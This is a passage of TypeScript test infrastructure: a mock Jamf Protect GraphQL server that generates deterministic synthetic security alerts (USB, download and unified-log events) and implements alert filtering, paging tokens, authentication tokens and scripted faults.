      { vendorName: 'Samsung', vendorId: '0x04e8', productId: '0x4001', productName: 'PSSD T7', mediaName: 'Samsung PSSD T7 Media', size: 1000204886016 },
      { vendorName: 'Kingston', vendorId: '0x0951', productId: '0x1666', productName: 'DataTraveler 3.0', mediaName: 'Kingston DataTraveler 3.0 Media', size: 31042043904 },
    ]);
    const bsdUnit = int(r, 2, 9);
    const device = {
      size: d.size,
      unit: 1,
      isLeaf: false,
      bsdName: `disk${bsdUnit}`,
      bsdUnit,
      busName: 'XHC3',
      content: 'GUID_partition_scheme',
      isWhole: true,
      protocol: 'USB',
      revision: '1.00',
      vendorId: d.vendorId,
      blockSize: 512,
      mediaKind: 'IOMedia',
      mediaName: d.mediaName,
      productId: d.productId,
      isInternal: false,
      isWritable: true,
      vendorName: d.vendorName,
      deviceClass: 0,
      deviceModel: d.productName,
      isEjectable: true,
      isEncrypted: false,
      isMountable: false,
      isRemovable: true,
      productName: d.productName,
      serialNumber: hex(r, 20).toUpperCase(),
      isNetworkVolume: false,
    };
    const event = { type: 0, uuid: uuidV4(r), device, timestamp: c.ts, usbAddress: int(r, 1, 6) };
    const analytic = { name: 'USBInserted', human: 'USB device inserted', tags: ['Visibility'], actions: ['Report'] };
    return classicDocument(c, 'GPUSBEvent', classicMatch(c, analytic, event, []), { files: [], users: [], groups: [], binaries: [], processes: [] });
  },

  GPDownloadEvent(c) {
    const r = c.r;
    const t = Math.floor(c.ts);
    const d = pick(r, [
      { file: 'JamfConnect-2.27.0.dmg', from: 'https://files.jamfconnect.com/JamfConnect.dmg', signing: devid('JamfConnect', 'JamfConnect-2', '483DWKW443', 'JAMF Software', 0), size: 35249769 },
      { file: 'googlechrome.dmg', from: 'https://dl.google.com/chrome/mac/universal/stable/GGRO/googlechrome.dmg', signing: devid('googlechrome', 'googlechrome', 'EQHXZ8M8AV', 'Google LLC', 0), size: 226512331 },
      { file: 'Zoom.pkg', from: 'https://zoom.us/client/latest/Zoom.pkg', signing: devid('Zoom', 'us.zoom.pkg.videomeeting', 'BJ4HAAB9B3', 'Zoom Video Communications, Inc.', 0), size: 104857600 },
      { file: 'Invoice_0427.pdf.zip', from: `https://cdn-${hex(r, 8)}.example.net/d/Invoice_0427.pdf.zip`, signing: { path: '', name: '', appid: '', signer: 'unsigned', size: 0 } as BinaryDef, size: 48213 },
    ]);
    const path = `/Users/${c.host.user}/Downloads/${d.file}`;
    const file = fileObject(c, {
      path,
      size: d.size,
      mode: 33188,
      uid: 501,
      gid: 20,
      signing: d.signing,
      changedTs: t - 1,
      isDownload: true,
      xattrs: ['com.apple.macl', 'com.apple.metadata:kMDItemDownloadedDate', 'com.apple.metadata:kMDItemWhereFroms', 'com.apple.quarantine'],
      downloadedFrom: [d.from],
    });
    const analytic = { name: 'new_downloads', human: '', tags: [], actions: ['Report'], custom: true };
    const event = { path, uuid: uuidV4(r), timestamp: c.ts };
    return classicDocument(c, 'GPDownloadEvent', classicMatch(c, analytic, event, []), { files: [file], users: usersOf(c, true, false), groups: groupsOf(c, true, false), binaries: [], processes: [] });
  },

  GPUnifiedLogEvent(c) {
    const r = c.r;
    const h = c.host;
    const scenario = pick(r, ['xprotect', 'xprotect', 'touchid', 'elevation'] as const);
    let event: Record<string, unknown>;
    const upper = () => uuidV4(r).toUpperCase();
    if (scenario === 'xprotect') {
      const plugin = `XProtectRemediator${pick(r, ['GreenAcre', 'WaterNet', 'Eicar', 'Pirrit', 'KeySteal', 'Adload', 'SheepSwap'])}`;
      const imagePath = `/Library/Apple/System/Library/CoreServices/XProtect.app/Contents/MacOS/${plugin}`;
      const composedMessage = JSON.stringify({ caused_by: [], status_message: 'NoThreatDetected', status_code: 20, execution_duration: Number((r() * 2).toFixed(16)) });
      event = { category: 'XPEvent.structured', composedMessage, name: 'XProtect Remediator Scan Activity', process: plugin, processIdentifier: int(r, 300, 99999), processImagePath: imagePath, sender: plugin, senderImagePath: imagePath, subsystem: 'com.apple.XProtectFramework.PluginAPI', tags: ['XProtect Remediator'] };
    } else if (scenario === 'touchid') {
      const imagePath = '/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow';
      event = { category: 'Standard', composedMessage: '-[LWAuthServiceManager event:eventHints:reply:] | ======== SCREENLOCK ==== APEventTouchIDMatch =========', name: 'LoginWindow TouchID Success', process: 'loginwindow', processIdentifier: int(r, 300, 99999), processImagePath: imagePath, sender: 'loginwindow', senderImagePath: imagePath, subsystem: 'com.apple.loginwindow.logging', tags: ['login', 'touchid'] };
    } else {
      const imagePath = '/Library/Application Support/JamfConnect/JCDaemon.app/Contents/MacOS/JCDaemon';
      event = { category: 'UserElevation', composedMessage: `User ${h.user} elevated to admin for stated reason: ${pick(r, ['No reason supplied', 'Installing printer driver', 'Updating Xcode'])}`, name: 'JCDaemon TPE Reasoning', process: 'JCDaemon', processIdentifier: int(r, 300, 99999), processImagePath: imagePath, sender: 'JCDaemon', senderImagePath: imagePath, subsystem: 'com.jamf.connect.daemon', tags: [] };
    }
    event.timestamp = c.ts;
    event.uuid = upper();
    const name = event.name as string;
    const tags = event.tags as string[];
    const actions = [{ name: 'Report' }];
    const fact = { actions, context: [], human: name, name, severity: c.severity, tags, uuid: analyticUuid(`unified:${name}`).toUpperCase() };
    return {
      caid: c.caid,
      certid: h.certid,
      input: {
        eventType: 'GPUnifiedLogEvent',
        host: { hostname: h.hostname, ips: h.ips, os: h.os, protectVersion: h.protectVersion, provisioningUDID: h.provisioningUDID, serial: h.serial },
        match: { actions, context: [], custom: false, event, facts: [fact], severity: c.severity, tags, uuid: c.uuid },
      },
    };
  },
};

/** The mix of severities when generateAlerts is not given any (cumulative). */
const SEVERITY_MIX = [0.45, 0.75, 0.92, 1];
const STATUSES = ['New', 'New', 'New', 'New', 'New', 'New', 'InProgress', 'Resolved', 'AutoResolved'];

// ---------------------------------------------------------------------------------------------
// Time

const AWS_DATETIME = /^(\d{4})-(\d{2})-(\d{2})T(\d{2}):(\d{2})(?::(\d{2})(?:\.(\d{1,9}))?)?(Z|([+-])(\d{2}):(\d{2})(?::(\d{2}))?)$/;

/** Epoch ms (with a sub-millisecond fraction) of an AWSDateTime, or null when it is not one. */
export function parseAwsDateTime(s: string): number | null {
  const m = AWS_DATETIME.exec(s);
  if (!m) return null;
  const [year, month, day, hour, minute] = m.slice(1, 6).map(Number) as [number, number, number, number, number];
  const second = Number(m[6] ?? '0');
  if (month < 1 || month > 12 || day < 1 || hour > 23 || minute > 59 || second > 59) return null;
  const d = new Date(0);
  d.setUTCFullYear(year, month - 1, day);
  if (d.getUTCMonth() !== month - 1 || d.getUTCDate() !== day) return null;
  d.setUTCHours(hour, minute, second, 0);
  let ms = d.getTime() + Number(`0.${m[7] ?? '0'}`) * 1000;
  if (m[9] !== undefined) {
    const oh = Number(m[10]);
    const om = Number(m[11]);
    const os = Number(m[12] ?? '0');
    if (oh > 23 || om > 59 || os > 59) return null;
    const offsetMs = ((oh * 60 + om) * 60 + os) * 1000;
    ms = m[9] === '+' ? ms - offsetMs : ms + offsetMs;
  }
  return ms;
}

/** `2026-11-22T10:00:00.123Z`, as `created` and `updated` are answered. */
export const isoMs = (ms: number) => new Date(ms).toISOString();

// ---------------------------------------------------------------------------------------------
// The schema, with AppSync's scalars

const schemas = new Map<string, GraphQLSchema>();

/** The schema without the `omit` fields (`Type.field`), built once per list. */
function schemaWithout(omit: readonly string[]): GraphQLSchema {
  const key = [...omit].sort().join(',');
  let schema = schemas.get(key);
  if (!schema) {
    const lines = JAMF_PROTECT_SCHEMA_SDL.split('\n');
    for (const name of omit) {
      const [type, field] = name.split('.') as [string, string];
      const at = lines.findIndex((l) => new RegExp(`^(?:type|input) ${type} \\{`).test(l));
      const m = at < 0 ? null : /^(.*?\{ )(.*)( \})$/.exec(lines[at]!);
      const fields = m ? m[2]!.split(', ') : [];
      const kept = fields.filter((f) => !f.startsWith(`${field}:`) && !f.startsWith(`${field}(`));
      if (!m || kept.length === fields.length) throw new Error(`MockJamfProtect: no field ${name} to omit`);
      lines[at] = `${m[1]}${kept.join(', ')}${m[3]}`;
    }
    const sdl = lines.join('\n');
    schema = withAwsScalars(buildSchema(sdl));
    schemas.set(key, schema);
  }
  return schema;
}

function withAwsScalars(schema: GraphQLSchema): GraphQLSchema {
  const dateTime = schema.getType('AWSDateTime');
  const json = schema.getType('AWSJSON');
  if (!isScalarType(dateTime) || !isScalarType(json)) throw new Error('schema without AWS scalars');
  const parseDateTime = (value: unknown): string => {
    if (typeof value !== 'string' || parseAwsDateTime(value) === null) throw new GraphQLError(`Invalid AWSDateTime value: ${JSON.stringify(value)}; expected YYYY-MM-DDThh:mm:ss.sssZ`);
    return value;
  };
  dateTime.parseValue = parseDateTime;
  dateTime.parseLiteral = (node: ValueNode) => {
    if (node.kind !== Kind.STRING) throw new GraphQLError('Invalid AWSDateTime literal: expected a string', { nodes: node });
    return parseDateTime(node.value);
  };
  dateTime.serialize = (value: unknown) => (typeof value === 'number' ? isoMs(value) : parseDateTime(value));
  const parseJson = (value: unknown): string => {
    if (typeof value !== 'string') throw new GraphQLError('Invalid AWSJSON value: expected a JSON string');
    try {
      JSON.parse(value);
    } catch {
      throw new GraphQLError('Invalid AWSJSON value: not valid JSON');
    }
    return value;
  };
  json.parseValue = parseJson;
  json.parseLiteral = (node: ValueNode) => {
    if (node.kind !== Kind.STRING) throw new GraphQLError('Invalid AWSJSON literal: expected a string', { nodes: node });
    return parseJson(node.value);
  };
  // AppSync answers AWSJSON as a string holding the JSON text.
  json.serialize = (value: unknown) => (typeof value === 'string' ? value : JSON.stringify(value));
  return schema;
}

// ---------------------------------------------------------------------------------------------
// listAlerts: filters, order, next tokens

interface Range<T> {
  equals?: T | null;
  greaterThan?: T | null;
  greaterThanOrEqual?: T | null;
  lessThan?: T | null;
  lessThanOrEqual?: T | null;
}
interface StringFilter {
  equals?: string | null;
  notEquals?: string | null;
  contains?: string | null;
}
interface AlertFilter {
  created?: Range<string> | null;
  updated?: Range<string> | null;
  severity?: Range<JamfProtectSeverity> | null;
  eventType?: StringFilter | null;
  and?: AlertFilter | null;
  or?: AlertFilter | null;
}
interface AlertQueryInput {
  filter?: AlertFilter | null;
  pageSize?: number | null;
  next?: string | null;
  direction?: 'ASC' | 'DESC' | null;
  field?: 'created' | 'updated' | 'severity' | null;
}

/** A GraphQL error raised while resolving, answered with AppSync's `errorType`. */
class ResolverError extends Error {
  constructor(
    message: string,
    readonly errorType: string,
  ) {
    super(message);
  }
}

const severityRank = (s: JamfProtectSeverity) => SEVERITIES.indexOf(s);

function inRange<T>(range: Range<T>, value: number, toNumber: (v: T) => number): boolean {
  const { equals, greaterThan, greaterThanOrEqual, lessThan, lessThanOrEqual } = range;
  if (equals != null && value !== toNumber(equals)) return false;
  if (greaterThan != null && !(value > toNumber(greaterThan))) return false;
  if (greaterThanOrEqual != null && !(value >= toNumber(greaterThanOrEqual))) return false;
  if (lessThan != null && !(value < toNumber(lessThan))) return false;
  if (lessThanOrEqual != null && !(value <= toNumber(lessThanOrEqual))) return false;
  return true;
}

/** The last bound parsed, kept: a listAlerts filter compares every alert with the same few bounds. */
let lastBound: { readonly text: string; readonly ms: number } | undefined;
function dateTimeMs(s: string): number {
  if (lastBound?.text !== s) lastBound = { text: s, ms: parseAwsDateTime(s) ?? Number.NaN };
  return lastBound.ms;
}

/**
 * The sibling conditions (created, severity, eventType, and) must all hold; `or` is an alternative to
 * them. A filter with only `or` is that alternative; an empty filter matches everything.
 */
function matches(f: AlertFilter, a: MockAlert): boolean {
  let hasOwn = false;
  let own = true;
  if (f.created != null) {
    hasOwn = true;
    own &&= inRange(f.created, a.created, dateTimeMs);
  }
  if (f.updated != null) {
    hasOwn = true;
    own &&= inRange(f.updated, a.updated ?? a.created, dateTimeMs);
  }
  if (f.severity != null) {
    hasOwn = true;
    own &&= inRange(f.severity, severityRank(a.severity), severityRank);
  }
  if (f.eventType != null) {
    hasOwn = true;
    const { equals, notEquals, contains } = f.eventType;
    own &&= (equals == null || a.eventType === equals) && (notEquals == null || a.eventType !== notEquals) && (contains == null || a.eventType.includes(contains));
  }
  if (f.and != null) {
    hasOwn = true;
    own &&= matches(f.and, a);
  }
  if (f.or == null) return own;
  if (!hasOwn) return matches(f.or, a);
  return own || matches(f.or, a);
}

/** The filter without nulls, keys in schema order: what a `next` token is bound to. */
function canonical(value: unknown): unknown {
  if (value === null || typeof value !== 'object') return value;
  const out: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(value)) if (v !== null && v !== undefined) out[k] = canonical(v);
  return out;
}

function queryHash(filter: AlertFilter | null | undefined, orderKey: string): string {
  return createHash('sha256')
    .update(JSON.stringify(canonical(filter ?? {})) + '\n' + orderKey)
    .digest('hex')
    .slice(0, 24);
}

const encodeNext = (offset: number, hash: string, n?: number) => Buffer.from(JSON.stringify(n === undefined ? { offset, hash } : { offset, hash, n })).toString('base64');

function decodeNext(next: string, hash: string): number {
  let parsed: unknown;
  try {
    parsed = JSON.parse(Buffer.from(next, 'base64').toString('utf8'));
  } catch {
    parsed = undefined;
  }
  const p = parsed as { offset?: unknown; hash?: unknown } | undefined;
  if (!p || typeof p !== 'object' || typeof p.offset !== 'number' || !Number.isSafeInteger(p.offset) || p.offset < 0 || p.hash !== hash) {
    throw new ResolverError('Invalid next token', 'BadRequest');
  }
  return p.offset;
}

function compareCreated(a: MockAlert, b: MockAlert): number {
  return a.created !== b.created ? a.created - b.created : a.uuid < b.uuid ? -1 : a.uuid > b.uuid ? 1 : 0;
}
const byUuid = (a: MockAlert, b: MockAlert) => (a.uuid < b.uuid ? -1 : a.uuid > b.uuid ? 1 : 0);

/** First index whose alert sorts after `a` by (created, uuid). */
function upperBound(list: readonly MockAlert[], a: MockAlert): number {
  let lo = 0;
  let hi = list.length;
  while (lo < hi) {
    const mid = (lo + hi) >>> 1;
    if (compareCreated(a, list[mid]!) >= 0) lo = mid + 1;
    else hi = mid;
  }
  return lo;
}

// ---------------------------------------------------------------------------------------------
// HTTP helpers

interface Body {
  text: string;
  tooLarge: boolean;
}

function readBody(req: IncomingMessage, limitBytes: number): Promise<Body> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    let size = 0;
    let done = false;
    const finish = () => {
      if (done) return;
      done = true;
      resolve({ text: Buffer.concat(chunks).toString('utf8'), tooLarge: size > limitBytes });
    };
    req.on('data', (chunk: Buffer) => {
      if (size < limitBytes) chunks.push(size + chunk.length <= limitBytes ? chunk : chunk.subarray(0, limitBytes - size));
      size += chunk.length;
    });
    req.on('end', finish);
    req.on('error', (err) => {
      if (!done) {
        done = true;
        reject(err);
      }
    });
    req.on('close', finish);
  });
}

/** The name of the first root field of a query ('listAlerts' when it cannot be told). */
function rootField(query: unknown, operationName: unknown): string {
  if (typeof query !== 'string') return 'listAlerts';
  try {
    const doc = parse(query);
    for (const def of doc.definitions) {
      if (def.kind !== Kind.OPERATION_DEFINITION) continue;
      if (typeof operationName === 'string' && def.name?.value !== operationName) continue;
      for (const sel of def.selectionSet.selections) if (sel.kind === Kind.FIELD) return sel.name.value;
    }
  } catch {
    // not a parseable query
  }
  return 'listAlerts';
}

/** graphql-js's wording of a validation error, as AppSync's graphql-java words it. */
function appSyncWording(text: string): string {
  const field = /^Cannot query field "(\w+)" on type "(\w+)"/.exec(text);
  if (field) return `Validation error of type FieldUndefined: Field '${field[1]}' in type '${field[2]}' is undefined @ 'listAlerts/items/${field[1]}'`;
  const input = /Field "(\w+)" is not defined by type "(\w+)"/.exec(text);
  if (input) return `Validation error of type WrongType: argument 'input.filter' with value 'ObjectValue{…}' contains a field not in '${input[2]}': '${input[1]}' @ 'listAlerts'`;
  return text;
}

/** AppSync's error shape: request errors (parse, validation, variables) have path null and no errorType. */
function appSyncError(e: GraphQLError, wording: 'graphql-js' | 'appsync'): Record<string, unknown> {
  const locations = e.locations ? e.locations.map((l) => ({ line: l.line, column: l.column, sourceName: null })) : null;
  if (e.path === undefined) return { path: null, locations, message: wording === 'appsync' ? appSyncWording(e.message) : e.message };
  const errorType = e.originalError instanceof ResolverError ? e.originalError.errorType : 'InternalFailure';
  return { path: e.path, data: null, errorType, errorInfo: null, locations, message: e.message };
}

// ---------------------------------------------------------------------------------------------
// The mock

export class MockJamfProtect extends MockVendorServer<MockJamfProtectRequest> {
  /** Access tokens issued so far (successful POST /token answers). */
  tokensIssued = 0;

  readonly #clientId: string;
  readonly #password: string;
  readonly #tokenLifetimeSeconds: number;
  readonly #latencyMs: number;
  readonly #forbidden: boolean;
  readonly #order: MockJamfProtectOrder;
  readonly #now: () => number;
  readonly #seed: number;
  readonly #caid: string;
  readonly #hosts: Host[] = [];
  readonly #computerUuids = new Map<string, string>();
  #generateSeed: number;
  /** Every alert, sorted by (created, uuid). */
  #alerts: MockAlert[] = [];
  readonly #uuids = new Set<string>();
  /** Order key → alerts in that order; cleared when alerts are added. */
  readonly #ordered = new Map<string, MockAlert[]>();
  /** access token → expiry on the mock's clock (ms). */
  readonly #tokens = new Map<string, number>();
  readonly #faults: Record<'token' | 'graphql', MockJamfProtectFault[]> = { token: [], graphql: [] };
  readonly #rootValue: Record<string, unknown>;
  readonly #schema: GraphQLSchema;
  readonly #wording: 'graphql-js' | 'appsync';
  #pagingQuirk: MockPagingQuirk = 'none';
  #tokenCounter = 0;

  constructor(options: MockJamfProtectOptions = {}) {
    super('MockJamfProtect', JSON_TYPE);
    this.#schema = schemaWithout(options.omitFields ?? []);
    this.#wording = options.wording ?? 'graphql-js';
    this.#clientId = options.clientId ?? 'orchard-test-protect-client';
    this.#password = options.password ?? 'orchard-test-protect-password';
    this.#tokenLifetimeSeconds = options.tokenLifetimeSeconds ?? 3600;
    this.#latencyMs = options.latencyMs ?? 0;
    this.#forbidden = options.forbidden ?? false;
    this.#order = options.order ?? 'created-asc';
    this.#now = options.now ?? Date.now;
    this.#seed = (options.seed ?? 1) >>> 0;
    const r = mulberry32(this.#seed ^ 0x9e3779b9);
    this.#caid = hex(r, 64);
    const serials = new Set<string>();
    for (let i = 0; i < HOSTS_PER_TENANT; i++) this.#hosts.push(generateHost(r, i, serials));
    this.#generateSeed = (this.#seed * 7919 + 0x5eed) >>> 0;
    this.#rootValue = {
      listAlerts: (args: { input?: AlertQueryInput | null }) => this.#listAlerts(args.input ?? {}),
      getAlert: (args: { uuid: string }) => {
        const a = this.#alerts.find((x) => x.uuid === args.uuid);
        return a ? this.#alertObject(a) : null;
      },
    };
  }

  // -------------------------------------------------------------------------------------------
  // Alerts: ground truth and feeding

  /** Every stored alert, sorted by (created, uuid). */
  get alerts(): readonly MockAlert[] {
    return this.#alerts.slice();
  }

  /** Store alerts (any order). Throws on a uuid already stored or a bad created time. */
  /** Alerts `pageInfo.total` counts beyond those the listing returns (counted, not yet listable). Default 0. */
  unlisted = 0;

  addAlerts(alerts: readonly MockAlert[]): void {
    const batch = new Set<string>();
    for (const a of alerts) {
      if (typeof a.uuid !== 'string' || a.uuid === '') throw new TypeError('MockJamfProtect: uuid must be a non-empty string');
      if (!Number.isSafeInteger(a.created)) throw new RangeError(`MockJamfProtect: created must be integer epoch ms, got ${a.created}`);
      if (!SEVERITIES.includes(a.severity)) throw new RangeError(`MockJamfProtect: bad severity ${JSON.stringify(a.severity)}`);
      if (this.#uuids.has(a.uuid) || batch.has(a.uuid)) throw new Error(`MockJamfProtect: an alert with uuid ${JSON.stringify(a.uuid)} is already stored`);
      batch.add(a.uuid);
    }
    if (alerts.length === 0) return;
    for (const id of batch) this.#uuids.add(id);
    const sorted = [...alerts].sort(compareCreated);
    const list = this.#alerts;
    const at = upperBound(list, sorted[0]!);
    const tail = at === list.length ? [] : list.splice(at);
    let i = 0;
    let j = 0;
    while (i < tail.length && j < sorted.length) list.push(compareCreated(tail[i]!, sorted[j]!) <= 0 ? tail[i++]! : sorted[j++]!);
    while (i < tail.length) list.push(tail[i++]!);
    while (j < sorted.length) list.push(sorted[j++]!);
    this.#ordered.clear();
  }

  /** Generate realistic alerts (shapes of the fixtures), deterministic from the seeds. Does not add them. */
  generateAlerts(options: GeneratedAlertOptions): MockAlert[] {
    const { count } = options;
    if (!Number.isInteger(count) || count < 0) throw new RangeError(`count must be a non-negative integer, got ${count}`);
    const toMs = options.toMs ?? this.#now();
    const fromMs = options.fromMs ?? toMs - 3_600_000;
    if (!Number.isSafeInteger(fromMs) || !Number.isSafeInteger(toMs) || fromMs < 0 || toMs <= fromMs) throw new RangeError(`need integer 0 <= fromMs < toMs, got ${fromMs} and ${toMs}`);
    const eventTypes = options.eventTypes ?? GENERATED_EVENT_TYPES;
    if (eventTypes.length === 0) throw new RangeError('eventTypes must not be empty');
    for (const t of eventTypes) if (!(t in TEMPLATES)) throw new RangeError(`no alert template for event type ${JSON.stringify(t)}; one of ${GENERATED_EVENT_TYPES.join(', ')}`);
    const severities = options.severities;
    if (severities !== undefined) {
      if (severities.length === 0) throw new RangeError('severities must not be empty');
      for (const s of severities) if (!SEVERITIES.includes(s)) throw new RangeError(`bad severity ${JSON.stringify(s)}`);
    }
    const seed = options.seed ?? this.#generateSeed++;
    const r = mulberry32(seed ^ Math.imul(this.#seed, 0x27d4eb2d));
    const span = toMs - fromMs;
    const out: MockAlert[] = [];
    const taken = new Set<string>();
    for (let k = 0; k < count; k++) {
      const created = options.sameCreated ? fromMs : fromMs + Math.floor((k * span) / count);
      const eventType = pick(r, eventTypes) as GeneratedEventType;
      let severity: number;
      if (severities) severity = severityRank(pick(r, severities));
      else {
        const x = r();
        severity = SEVERITY_MIX.findIndex((p) => x < p);
      }
      let uuid = uuidV4(r);
      while (taken.has(uuid)) uuid = uuidV4(r);
      taken.add(uuid);
      if (eventType === 'GPUnifiedLogEvent') uuid = uuid.toUpperCase();
      const host = pick(r, this.#hosts);
      const ts = epochSecondsMicros(created - int(r, 200, 8000), r);
      const document = TEMPLATES[eventType]({ r, host, caid: this.#caid, uuid, severity, ts });
      const drawn = pick(r, STATUSES);
      const status = options.mixedStatuses ? drawn : 'New';
      out.push({
        uuid,
        created,
        document,
        documentText: JSON.stringify(document),
        severity: SEVERITIES[severity]!,
        eventType,
        hostName: host.hostname,
        serial: host.serial,
        status,
        updated: status === 'New' ? created : created + int(r, 60_000, 86_400_000),
      });
    }
    return out;
  }

  /** A MockAlert for a body as an agent pushes it (a fixture line), so a test can pull the alert it pushed. */
  alertFromDocument(documentText: string, createdMs: number): MockAlert {
    const document = JSON.parse(documentText) as Record<string, unknown>;
    const input = document?.input as Record<string, unknown> | undefined;
    const match = input?.match as Record<string, unknown> | undefined;
    const host = (input?.host ?? {}) as Record<string, unknown>;
    if (!match || typeof match.uuid !== 'string') throw new TypeError('MockJamfProtect: the document has no input.match.uuid');
    const sev = typeof match.severity === 'string' ? Number(match.severity) : match.severity;
    const severity = typeof sev === 'number' && Number.isInteger(sev) && sev >= 0 && sev <= 3 ? SEVERITIES[sev]! : 'Informational';
    return {
      uuid: match.uuid,
      created: createdMs,
      document,
      documentText,
      severity,
      eventType: typeof input?.eventType === 'string' ? input.eventType : '',
      hostName: typeof host.hostname === 'string' ? host.hostname : '',
      serial: typeof host.serial === 'string' ? host.serial : '',
    };
  }

  /**
   * An analyst (or Jamf Protect) changes an alert: its status, its tags; `updated` becomes `at`
   * (default the mock's clock, and always after the alert's previous `updated`).
   */
  updateAlert(uuid: string, change: { status?: string; tags?: string[]; at?: number }): MockAlert {
    const a = this.#alerts.find((x) => x.uuid === uuid);
    if (!a) throw new Error(`MockJamfProtect: no alert ${uuid}`);
    if (change.status !== undefined) a.status = change.status;
    if (change.tags !== undefined) a.tags = [...change.tags];
    a.updated = Math.max(change.at ?? this.#now(), (a.updated ?? a.created) + 1);
    this.#ordered.clear();
    return a;
  }

  /** From now on, listAlerts pages as the quirk says (see MockPagingQuirk). */
  pagingQuirk(quirk: MockPagingQuirk): void {
    this.#pagingQuirk = quirk;
  }

  // -------------------------------------------------------------------------------------------
  // Tokens and faults

  /** Every token issued so far stops working now (the next graphql call with one is 401). */
  expireTokens(): void {
    this.#tokens.clear();
  }

  /** Script the next `times` requests to a route (consumed in order, before authentication); 0 scripts nothing. */
  failNext(route: 'token' | 'graphql', fault: MockJamfProtectFault, times = 1): void {
    if (!Number.isInteger(times) || times < 0) throw new RangeError(`times must be a non-negative integer, got ${times}`);
    if (route === 'token' && 'graphqlError' in fault) throw new TypeError('graphqlError faults are for the graphql route');
    for (let k = 0; k < times; k++) this.#faults[route].push({ ...fault });
  }

  #issueToken(): string {
    const token = randomBytes(48).toString('base64url');
    this.#tokens.set(token, this.#now() + this.#tokenLifetimeSeconds * 1000);
    this.tokensIssued++;
    return token;
  }

  #tokenValid(token: string): boolean {
    const expiresAt = this.#tokens.get(token);
    if (expiresAt === undefined) return false;
    if (this.#now() >= expiresAt) {
      this.#tokens.delete(token);
      return false;
    }
    return true;
  }

  // -------------------------------------------------------------------------------------------
  // GraphQL resolvers

  #orderKey(input: AlertQueryInput): string {
    if (input.field == null && input.direction == null) return this.#order;
    return `${input.field ?? 'created'}:${input.direction ?? 'ASC'}`;
  }

  #inOrder(key: string): MockAlert[] {
    if (key === 'created-asc' || key === 'created:ASC') return this.#alerts;
    let list = this.#ordered.get(key);
    if (list) return list;
    if (key === 'created-desc' || key === 'created:DESC') list = this.#alerts.slice().reverse();
    else if (key === 'shuffled') {
      const salt = this.#seed;
      const rank = new Map(this.#alerts.map((a) => [a, seedOf(`${salt}:${a.uuid}`)]));
      list = this.#alerts.slice().sort((a, b) => rank.get(a)! - rank.get(b)! || byUuid(a, b));
    } else {
      const [field, direction] = key.split(':') as ['updated' | 'severity', 'ASC' | 'DESC'];
      const value = (a: MockAlert) => (field === 'updated' ? (a.updated ?? a.created) : severityRank(a.severity));
      const sign = direction === 'DESC' ? -1 : 1;
      list = this.#alerts.slice().sort((a, b) => sign * (value(a) - value(b) || compareCreated(a, b)));
    }
    this.#ordered.set(key, list);
    return list;
  }

  #listAlerts(input: AlertQueryInput): { items: unknown[]; pageInfo: { next: string | null; total: number } } {
    const pageSize = input.pageSize ?? DEFAULT_PAGE_SIZE;
    if (pageSize < 1 || pageSize > MAX_PAGE_SIZE) throw new ResolverError(`pageSize must be between 1 and ${MAX_PAGE_SIZE}`, 'BadRequest');
    const orderKey = this.#orderKey(input);
    const hash = queryHash(input.filter, orderKey);
    const decoded = input.next == null ? 0 : decodeNext(input.next, hash);
    const offset = this.#pagingQuirk === 'ignore' ? 0 : decoded;
    const filter = input.filter;
    const page: MockAlert[] = [];
    let total = 0;
    for (const a of this.#inOrder(orderKey)) {
      if (filter && !matches(filter, a)) continue;
      if (total >= offset && page.length < pageSize) page.push(a);
      total++;
    }
    const end = offset + page.length;
    let next = end < total ? encodeNext(end, hash) : null;
    total += this.unlisted;
    if (next !== null && this.#pagingQuirk === 'repeat' && input.next != null) next = input.next;
    if (next !== null && this.#pagingQuirk === 'ignore') next = encodeNext(end, hash, ++this.#tokenCounter);
    return { items: page.map((a) => this.#alertObject(a)), pageInfo: { next, total } };
  }

  #alertObject(a: MockAlert): Record<string, unknown> {
    let computerUuid = this.#computerUuids.get(a.serial);
    if (computerUuid === undefined) {
      computerUuid = uuidV4(mulberry32(seedOf(`computer:${a.serial}`)));
      this.#computerUuids.set(a.serial, computerUuid);
    }
    return {
      uuid: a.uuid,
      json: a.documentText,
      severity: a.severity,
      eventType: a.eventType,
      status: a.status ?? 'New',
      tags: a.tags ?? (((a.document.input as { match?: { tags?: unknown } } | undefined)?.match?.tags as string[] | undefined) ?? []),
      created: isoMs(a.created),
      updated: isoMs(a.updated ?? a.created),
      computer: { uuid: computerUuid, hostName: a.hostName, serial: a.serial },
    };
  }

  // -------------------------------------------------------------------------------------------
  // HTTP

  protected async handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    const headers: Record<string, string> = {};
    for (const [k, v] of Object.entries(req.headers)) if (v !== undefined) headers[k] = Array.isArray(v) ? v.join(', ') : v;
    const route: MockJamfProtectRoute = url.pathname === TOKEN_PATH ? 'token' : url.pathname === GRAPHQL_PATH ? 'graphql' : 'other';
    const entry: MockJamfProtectRequest = { route, method: req.method ?? 'GET', path: url.pathname, status: 0, headers, body: '', at: this.#now() };
    this.requests.push(entry);
    try {
      const body = await readBody(req, MAX_BODY_BYTES);
      entry.body = body.text;
      if (route === 'other') return this.send(res, entry, 404, message('Not Found'));
      if (req.method !== 'POST') return this.send(res, entry, 405, message('Method Not Allowed'), { allow: 'POST' });
      if (body.tooLarge) return this.send(res, entry, 413, message('Request Entity Too Large'), { connection: 'close' });
      let parsed: unknown;
      try {
        parsed = JSON.parse(body.text);
      } catch {
        parsed = undefined;
      }
      const fields = parsed !== null && typeof parsed === 'object' && !Array.isArray(parsed) ? (parsed as Record<string, unknown>) : undefined;
      if (route === 'graphql' && fields) {
        if ('variables' in fields) entry.variables = fields.variables;
        if (typeof fields.operationName === 'string') entry.operationName = fields.operationName;
      }
      const fault = this.#faults[route].shift();
      await this.timers.sleep(this.#latencyMs + (fault?.delayMs ?? 0));
      if (fault) return this.#answerFault(req, res, entry, fault, fields);
      if (route === 'token') {
        const [status, answer] = this.#token(fields);
        return this.send(res, entry, status, answer);
      }
      const [status, answer] = await this.#graphql(req, fields);
      this.send(res, entry, status, answer, { 'x-amzn-requestid': uuidV4(mulberry32(seedOf(`${this.requests.length}:${entry.at}`))) });
    } catch (err) {
      if (!res.headersSent) this.send(res, entry, 500, message('Internal Server Error'));
      else res.destroy(err as Error);
    }
  }

  #token(fields: Record<string, unknown> | undefined): [number, string] {
    if (!fields) return [400, JSON.stringify({ error: 'invalid_request', message: 'The request body must be a JSON object' })];
    const { client_id: clientId, password } = fields;
